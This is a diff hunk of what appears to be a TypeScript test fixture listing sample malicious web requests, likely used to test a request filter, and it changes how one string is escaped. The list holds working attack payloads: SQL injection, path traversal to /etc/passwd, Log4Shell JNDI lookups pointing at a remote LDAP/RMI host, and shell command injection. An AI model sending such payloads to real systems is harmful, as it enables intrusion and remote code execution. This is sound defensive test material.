@@ -39,7 +39,7 @@ const REQUESTS: readonly WebRequest[] = [
   form('sql-form', '/login.php', 'user=tanaka%27+OR+1%3D1+--+&pass=x'),
   get('upwards', '/download?file=../../../../etc/passwd'),
   get('upwards-in-code', '/static/%2e%2e/%2e%2e/%2e%2e/conf/app.conf'),
-  get('look-up', '/', 'User-Agent: ${jndi:ldap://203.0.113.99:1389/Basic}'),
+  get('look-up', '/', 'User-Agent: $\x7bjndi:ldap://203.0.113.99:1389/Basic}'),
   get('look-up-hidden', '/?q=$%7B$%7Blower:j%7Dndi:rmi://203.0.113.99/x%7D'),
   get('scanner', '/', 'User-Agent: sqlmap/1.8.2#stable (https://sqlmap.org)'),
   get('command', '/ping.cgi?host=127.0.0.1;cat%20/etc/hosts'),
